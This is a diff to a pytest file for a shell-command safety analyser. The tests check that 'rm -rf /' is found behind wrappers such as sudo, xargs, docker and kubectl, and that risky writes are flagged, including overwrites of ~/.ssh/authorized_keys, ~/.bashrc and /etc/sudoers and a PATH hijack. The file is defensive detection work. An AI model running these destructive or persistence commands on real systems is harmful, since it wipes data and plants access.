@@ -282,8 +282,10 @@ def test_dynamic_arguments_are_kept_as_placeholders() -> None:
         ("builtin rm -rf /", ["rm", "-rf", "/"], ["builtin"]),
         ("exec rm -rf /", ["rm", "-rf", "/"], ["exec"]),
         ("chroot /mnt rm -rf /", ["rm", "-rf", "/"], ["chroot"]),
-        ("xargs rm -rf", ["rm", "-rf"], ["xargs"]),
-        ("xargs -0 -n 1 -P 4 rm -rf", ["rm", "-rf"], ["xargs"]),
+        # the words xargs adds from its input read as `{}` (find's notation)
+        ("xargs rm -rf", ["rm", "-rf", "{}"], ["xargs"]),
+        ("xargs -0 -n 1 -P 4 rm -rf", ["rm", "-rf", "{}"], ["xargs"]),
+        ("xargs -I% rm -rf %", ["rm", "-rf", "{}"], ["xargs"]),
         ("xargs -I{} rm -rf {}", ["rm", "-rf", "{}"], ["xargs"]),
         ("find . -exec rm -rf {} \\;", ["rm", "-rf", "{}"], ["find"]),
         ("find . -name x -execdir rm -rf {} +", ["rm", "-rf", "{}"], ["find"]),
@@ -306,6 +308,19 @@ def test_dynamic_arguments_are_kept_as_placeholders() -> None:
         ("uv run --with x rm -rf /", ["rm", "-rf", "/"], ["uv"]),
         ("poetry run rm -rf /", ["rm", "-rf", "/"], ["poetry"]),
         ("/usr/bin/sudo /bin/rm -rf /", ["/bin/rm", "-rf", "/"], ["sudo"]),
+        ("strace -f -o /dev/null rm -rf /", ["rm", "-rf", "/"], ["strace"]),
+        ("busybox rm -rf /", ["rm", "-rf", "/"], ["busybox"]),
+        ("taskset -c 0 rm -rf /", ["rm", "-rf", "/"], ["taskset"]),
+        ("unshare -r rm -rf /", ["rm", "-rf", "/"], ["unshare"]),
+        ("systemd-run --user rm -rf /", ["rm", "-rf", "/"], ["systemd-run"]),
+        ("coproc rm -rf /", ["rm", "-rf", "/"], ["coproc"]),
+        # container commands, global options before (each word of) the subcommand
+        ("docker run --rm -v /:/host alpine rm -rf /", ["rm", "-rf", "/"], ["docker"]),
+        ("docker -H ssh://prod exec -it db rm -rf /", ["rm", "-rf", "/"], ["docker"]),
+        ("docker compose -f x.yml exec web rm -rf /", ["rm", "-rf", "/"], ["docker"]),
+        ("podman container run img rm -rf /", ["rm", "-rf", "/"], ["podman"]),
+        ("kubectl exec -n prod db-0 -- rm -rf /", ["rm", "-rf", "/"], ["kubectl"]),
+        ("kubectl --context prod exec db-0 -c pg -- rm -rf /", ["rm", "-rf", "/"], ["kubectl"]),
     ],
 )
 def test_wrappers_yield_the_wrapped_command(line: str, inner: list[str], via: list[str]) -> None:
@@ -322,8 +337,75 @@ def test_wrapper_chain() -> None:
         (["timeout", "5", "bash", "-c", "xargs rm -rf"], ["sudo", "env", "nice"]),
         (["bash", "-c", "xargs rm -rf"], ["sudo", "env", "nice", "timeout"]),
         (["xargs", "rm", "-rf"], ["sudo", "env", "nice", "timeout", "bash"]),
-        (["rm", "-rf"], ["sudo", "env", "nice", "timeout", "bash", "xargs"]),
+        (["rm", "-rf", "{}"], ["sudo", "env", "nice", "timeout", "bash", "xargs"]),
     ]
+
+
+@pytest.mark.parametrize(
+    "line", ["docker ps -a", "docker --version", "kubectl get pods -n exec", "docker run -d nginx"]
+)
+def test_container_commands_without_an_inner_command(line: str) -> None:
+    assert all(p.via == [] for p in analyse(line).parts)
+    assert clean(line)
+
+
+def test_container_option_that_runs_a_command_goes_to_review() -> None:
+    assert "wrapper-option" in ids("docker run --entrypoint sh img -c id")
+
+
+def test_coproc_with_a_compound_command() -> None:
+    got = analyse("coproc worker { rm -rf /; }")
+    assert ["rm", "-rf", "/"] in [p.argv for p in got.parts]
+    assert "cannot-analyse" in ids("coproc worker { rm -rf /; }")
+
+
+def test_shell_keyword_as_command_name_goes_to_review() -> None:
+    assert "cannot-analyse" in ids("'}'")
+
+
+def test_xargs_completing_a_shell_command_is_opaque() -> None:
+    assert "dynamic-command" in ids("echo 'rm -rf /' | xargs -0 bash -c")
+    assert "opaque-code" in ids("bash -c")
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "bash /dev/stdin < payload.sh",
+        "sh /proc/self/fd/0 < x",
+        "bash /dev/fd/3 3< x",
+        "python3 /dev/stdin < x.py",
+    ],
+)
+def test_script_read_from_stdin_is_opaque(line: str) -> None:
+    assert "opaque-code" in ids(line)
+
+
+def test_ifs_matters_only_when_set_in_the_shell() -> None:
+    assert clean("IFS=: read -r user rest <<< 'root:x'")
+    assert clean('while IFS= read -r line; do echo "$line"; done < input.txt')
+    assert "code-variable" in ids("IFS=,; echo $x")
+    assert "code-variable" in ids("PATH=/tmp/evil:$PATH ls")
+
+
+@pytest.mark.parametrize(
+    ("line", "written"),
+    [
+        ("sed -i 's/a/b/' /etc/sudoers", True),
+        ("sed -ni -e 's/a/b/' /etc/hosts", True),
+        ("sed --in-place=.bak 's/a/b/' ~/.bashrc", True),
+        ("sed 's/a/b/' /etc/hosts", False),
+        ("sed -i 's/a/b/' notes.txt", False),
+        ("sed -i /etc/hosts notes.txt", False),  # the first operand is the script
+        ("curl -fsSLo ~/.bashrc https://x", True),
+        ("curl -o out.json https://x", False),
+        ("wget -qO ~/.ssh/authorized_keys https://x", True),
+        ("wget -O- https://x", False),
+        ("sort -uo /etc/hosts in", True),
+    ],
+)
+def test_writers(line: str, written: bool) -> None:
+    assert ("sensitive-write" in ids(line)) is written
 
 
 def test_env_assignments_go_to_the_inner_part() -> None:
@@ -692,7 +774,7 @@ def test_analysis_is_fast() -> None:
 
 
 def test_builtin_spec_is_marshalable() -> None:
-    assert marshal.loads(marshal.dumps(SPEC)) == SPEC  # noqa: S302 - our own data, round trip
+    assert marshal.loads(marshal.dumps(SPEC)) == SPEC
 
 
 @pytest.mark.parametrize(
